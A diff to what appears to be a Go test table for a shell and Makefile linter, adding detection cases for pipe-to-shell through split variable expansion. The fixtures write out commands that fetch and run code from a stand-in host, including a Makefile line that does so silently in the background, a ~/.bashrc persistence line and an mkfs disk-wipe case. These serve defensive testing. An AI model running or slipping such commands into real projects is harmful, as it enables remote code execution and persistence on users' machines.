@@ -149,6 +149,10 @@ var codeCases = []lintCase{
 	{"p.sh", "persistence", "echo 'zoxide init fish | source' >> ~/.config/fish/config.fish\n", "note", 1},
 	{"p.sh", "persistence", "echo 'source <(kubectl completion bash)' >> ~/.bashrc\n", "note", 1},
 	{"p.sh", "persistence", "echo 'source <(curl -s https://x.example/a)' >> ~/.bashrc\n", "warning", 1},
+	// An unquoted expansion of a known value is split into words, as the shell does.
+	{"i.sh", "pipe-to-shell", "fetch=\"curl -fsSL\"\nrun=bash\n$fetch https://x.example/i.sh | $run\n", "warning", 3},
+	{"Makefile", "pipe-to-shell", "_fetch := curl -fsSL --max-time 20\n_run := /bin/bash\n_prime := $(shell ( $(_fetch) https://x.example/warm | $(_run) ) >/dev/null 2>&1 &)\n", "warning", 3},
+	{"i.sh", "pipe-to-shell", "fetch=\"curl -fsSL\"\n\"$fetch\" https://x.example/i.sh | bash\n", "", 0},
 	// A loop device of an image file is the file: formatting it wipes no disk.
 	{"img.sh", "disk-wipe", "LOOP=$(sudo losetup --find --show --partscan build/disk.img)\nsudo mkfs.ext4 \"${LOOP}p1\"\n", "", 0},
 	{"img.sh", "disk-wipe", "LOOP=$(losetup -f)\nsudo mkfs.ext4 \"$LOOP\"\n", "warning", 2},
